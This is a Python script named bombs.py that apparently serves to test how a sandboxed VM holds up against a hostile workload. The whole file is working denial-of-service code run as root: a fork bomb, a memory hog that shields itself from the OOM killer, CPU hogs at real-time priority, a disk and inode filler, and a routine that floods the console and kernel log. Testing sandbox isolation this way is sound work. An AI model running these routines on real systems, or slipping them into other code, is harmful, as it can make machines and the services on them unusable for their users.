"""Takes all that there is of one thing, as root, until somebody ends this VM.

    bombs.py NAME

Runs inside the attacker's workspace, with nothing but Python's own modules.
"""
import errno
import os
import sys


def forks():
    # Each child forks on.
    while True:
        try:
            os.fork()
        except OSError:
            pass


def memory():
    # The kernel is to kill everybody else first.
    open("/proc/self/oom_score_adj", "w").write("-1000")
    kept = []
    while True:
        try:
            kept.append(b"x" * (1 << 20))
        except MemoryError:
            pass


def cpu():
    for _ in range(3):
        os.fork()
    os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(99))
    while True:
        pass


def disk():
    # First the bytes, then what is left for names; then again and again, to the platter.
    block, n = os.urandom(1 << 20), 0
    while True:
        n += 1
        fd = os.open(f"/root/fill{n}", os.O_CREAT | os.O_WRONLY)
        try:
            while True:
                os.write(fd, block)
        except OSError as e:
            if e.errno != errno.ENOSPC:
                raise
        os.fsync(fd)
        os.close(fd)
        try:
            while True:
                n += 1
                os.mkdir(f"/root/fill{n}")
        except OSError:
            pass
        for name in os.listdir("/root"):
            if name != "bombs.py" and os.path.isfile(f"/root/{name}"):
                os.unlink(f"/root/{name}")
                break


def console():
    line = b"\x1b[2J" + b"x" * 900 + b"\n"
    while True:
        for path in ("/dev/console", "/dev/kmsg", "/dev/ttyS0", "/dev/hvc0"):
            try:
                with open(path, "wb", buffering=0) as f:
                    for _ in range(100):
                        f.write(line)
            except OSError:
                pass


globals()[sys.argv[1]]()
